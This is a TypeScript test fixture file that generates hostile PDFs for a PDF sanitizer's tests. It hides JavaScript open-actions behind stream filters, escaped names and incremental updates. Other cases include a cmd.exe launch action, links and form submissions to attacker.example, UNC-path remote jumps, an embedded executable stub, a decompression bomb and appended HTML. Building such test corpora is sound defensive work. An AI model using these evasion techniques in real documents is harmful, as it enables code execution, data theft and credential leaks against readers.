// Hostile PDFs (issue #27, point 4), made with the PDF writer (pdf-builder.ts): actions hidden every way a
// reader still finds them (object streams behind each filter, escaped names, incremental updates), and
// PDFs a rewrite makes safe (links, appended files). Nothing big is committed.
import zlib from 'node:zlib';
import { buildPdf, latin1, stream, type PdfFilter, type PdfObject } from './pdf-builder';
import { zipFile } from './zip-files';

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>';
const CONTENT = stream('', latin1('BT /F1 12 Tf 20 100 Td (Letter of intent) Tj ET'));
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\("pwned"\\)) >>';

/** A one-page PDF; `catalog` and `page` add entries to those dictionaries. */
export function cleanPdf({ catalog = '', page = '', extra = [] as PdfObject[] } = {}): Buffer {
  return buildPdf({
    objects: [
      { num: 1, body: `<< /Type /Catalog /Pages 2 0 R ${catalog}>>` },
      { num: 2, body: PAGES },
      { num: 3, body: page ? PAGE.replace(' >>', ` ${page} >>`) : PAGE },
      { num: 4, body: CONTENT },
      ...extra,
    ],
  });
}

/** The catalog (with an /OpenAction running JavaScript) hidden in an object stream behind `filters`. */
export function pdfScriptInObjectStream(filters: PdfFilter[]): Buffer {
  return buildPdf({
    objects: [
      { num: 2, body: PAGES },
      { num: 3, body: PAGE },
      { num: 4, body: CONTENT },
    ],
    objectStream: {
      num: 6,
      filters,
      objects: [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>' },
        { num: 5, body: SCRIPT },
      ],
    },
  });
}

/** A clean first revision, then an incremental update whose catalog opens with JavaScript. */
export function pdfIncrementalUpdate(): Buffer {
  const first = cleanPdf();
  const startxref = Number(/startxref\n(\d+)/.exec(first.toString('latin1'))![1]);
  const update = buildPdf(
    {
      objects: [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>' },
        { num: 5, body: SCRIPT },
      ],
    },
    { startOffset: first.length, prev: startxref },
  );
  return Buffer.concat([first, update]);
}

export const HTML = latin1('<html><body><script>fetch("/api/user").then(r=>r.text()).then(alert)</script></body></html>\n');

export interface HostilePdf {
  name: string;
  data: Buffer;
}

/** Every PDF variant of the issue (point 4) and a few more. */
export function hostilePdfs(): HostilePdf[] {
  const flateBomb = zlib.deflateSync(Buffer.alloc(100 * 1024 * 1024, 0x20));
  return [
    { name: 'script in an object stream behind ASCIIHexDecode', data: pdfScriptInObjectStream(['ASCIIHexDecode']) },
    { name: 'script in an object stream behind ASCII85Decode', data: pdfScriptInObjectStream(['ASCII85Decode']) },
    { name: 'script in an object stream behind [ASCIIHexDecode FlateDecode]', data: pdfScriptInObjectStream(['ASCIIHexDecode', 'FlateDecode']) },
    { name: 'script in an object stream behind FlateDecode', data: pdfScriptInObjectStream(['FlateDecode']) },
    { name: 'script in an object stream behind LZWDecode', data: pdfScriptInObjectStream(['LZWDecode']) },
    { name: 'script in an object stream behind RunLengthDecode', data: pdfScriptInObjectStream(['RunLengthDecode']) },
    { name: 'script in an object stream behind [ASCII85Decode RunLengthDecode]', data: pdfScriptInObjectStream(['ASCII85Decode', 'RunLengthDecode']) },
    { name: 'plain /OpenAction JavaScript', data: cleanPdf({ catalog: `/OpenAction ${SCRIPT} ` }) },
    { name: '#-escaped /J#61vaScript', data: cleanPdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ' }) },
    {
      name: '#-escaped with lower-case hex /#4aavaScript',
      data: cleanPdf({ catalog: '/Names << /#4aavaScript 5 0 R >> ', extra: [{ num: 5, body: '<< /Names [] >>' }] }),
    },
    {
      name: '/Names /JavaScript tree',
      data: cleanPdf({ catalog: '/Names << /JavaScript 5 0 R >> ', extra: [{ num: 5, body: `<< /Names [(a) ${SCRIPT}] >>` }] }),
    },
    { name: '/OpenAction /URI', data: cleanPdf({ catalog: '/OpenAction << /S /URI /URI (https://attacker.example/collect) >> ' }) },
    { name: '/OpenAction /Launch', data: cleanPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> ' }) },
    {
      name: '/OpenAction /GoToR to a UNC path',
      data: cleanPdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >> ' }),
    },
    { name: '/AA on a page', data: cleanPdf({ page: '/AA << /O << /S /URI /URI (https://attacker.example/open) >> >>' }) },
    {
      name: 'form field with /AA JavaScript',
      data: cleanPdf({ catalog: '/AcroForm << /Fields [5 0 R] >> ', extra: [{ num: 5, body: `<< /FT /Tx /T (amount) /AA << /K ${SCRIPT} >> >>` }] }),
    },
    {
      name: 'button submitting the form',
      data: cleanPdf({
        page: '/Annots [5 0 R]',
        extra: [{ num: 5, body: '<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 50 20] /A << /S /SubmitForm /F (https://attacker.example/) >> >>' }],
      }),
    },
    {
      name: 'embedded file (/EmbeddedFiles)',
      data: cleanPdf({
        catalog: '/Names << /EmbeddedFiles 5 0 R >> ',
        extra: [
          { num: 5, body: '<< /Names [(x.exe) 6 0 R] >>' },
          { num: 6, body: '<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>' },
          { num: 7, body: stream('/Type /EmbeddedFile', latin1('MZ')) },
        ],
      }),
    },
    {
      name: '/FileAttachment annotation',
      data: cleanPdf({
        page: '/Annots [5 0 R]',
        extra: [
          { num: 5, body: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R >>' },
          { num: 6, body: '<< /Type /Filespec /F (a.html) >>' },
        ],
      }),
    },
    {
      name: 'XFA form',
      data: cleanPdf({
        catalog: '/AcroForm << /Fields [] /XFA 5 0 R >> ',
        extra: [{ num: 5, body: stream('', latin1('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')) }],
      }),
    },
    {
      name: 'rich media annotation',
      data: cleanPdf({
        page: '/Annots [5 0 R]',
        extra: [{ num: 5, body: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>' }],
      }),
    },
    { name: 'incremental update adding a script to a clean first revision', data: pdfIncrementalUpdate() },
    {
      name: 'object stream Flate bomb (200 MB)',
      data: buildPdf({
        objects: [
          { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
          { num: 2, body: PAGES },
          { num: 3, body: PAGE },
          { num: 4, body: CONTENT },
          { num: 5, body: stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', flateBomb) },
        ],
      }),
    },
    {
      name: 'encrypted',
      data: buildPdf({
        objects: [
          { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
          { num: 2, body: PAGES },
          { num: 3, body: PAGE },
          { num: 4, body: CONTENT },
          { num: 5, body: '<< /Filter /Standard /V 2 /R 3 /O (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) /U (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) /P -4 >>' },
        ],
        trailer: '/Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]',
      }),
    },
  ];
}

/** PDFs that a rewrite makes safe (the links are taken out, the tail dropped). */
export function rewrittenPdfs(): HostilePdf[] {
  return [
    { name: 'ZIP appended after %%EOF', data: Buffer.concat([cleanPdf(), zipFile('payload.html', HTML)]) },
    { name: 'HTML appended after %%EOF', data: Buffer.concat([cleanPdf(), HTML]) },
    {
      name: 'link annotation with /URI',
      data: cleanPdf({
        page: '/Annots [5 0 R]',
        extra: [{ num: 5, body: '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://attacker.example/phish) >> >>' }],
      }),
    },
    {
      name: 'link annotation with /GoToR',
      data: cleanPdf({
        page: '/Annots [5 0 R]',
        extra: [
          { num: 5, body: '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A 6 0 R >>' },
          { num: 6, body: '<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>' },
        ],
      }),
    },
    { name: 'harmless /OpenAction to page one', data: cleanPdf({ catalog: '/OpenAction [3 0 R /Fit] ' }) },
  ];
}
